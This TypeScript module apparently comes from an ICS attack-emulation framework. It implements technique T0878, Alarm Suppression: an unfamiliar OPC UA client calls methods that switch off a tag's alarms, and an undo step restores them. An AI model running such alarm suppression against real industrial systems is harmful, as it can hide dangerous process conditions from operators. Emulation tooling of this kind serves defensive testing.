// T0878 Alarm Suppression: a client that the server has never seen calls methods that switch the alarms of a tag off.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { InsistSeconds } from './insist.ts'
import { aiming, asIdentity, OPCUA_HOSTS, opcuaAttacker, Secure, User } from './opcua-client.ts'
import { AlarmedTag } from './target.ts'

const Parameters = z.strictObject({
  tag: AlarmedTag().optional().describe('Whose alarms are switched off; by default the first tag that has alarms.'),
  user: User,
  secure: Secure,
  insistSeconds: InsistSeconds
})

export const opcuaCall = {
  name: 'opcua-call',
  title: { zh: '陌生 OPC UA 客户端调用', en: 'Call of a new OPC UA client' },
  technique: 'T0878',
  needs: ['opcua'],
  parameters: Parameters,
  async aim(foothold, { tag: asked, user, secure, insistSeconds }) {
    const attacker = await opcuaAttacker(foothold)
    const identity = asIdentity(user)
    const tags = asked === undefined ? Object.keys(foothold.map.tags) : [asked]
    const tag = await aiming(attacker, async () => {
      const [first] = await attacker.alarmed({ secure }, identity, tags)
      if (first === undefined) throw new Error(`${asked ?? 'the PLC'} has no alarms`)
      return first
    })
    const setAlarms = (on: boolean) => attacker.setAlarms({ secure }, identity, tag, on)
    return {
      ...{ tags: [tag], hosts: OPCUA_HOSTS, insistSeconds },
      strike: async () => void (await setAlarms(false)),
      async undo() {
        await setAlarms(true)
        await attacker[Symbol.asyncDispose]()
      }
    }
  }
} satisfies Attack<typeof Parameters>
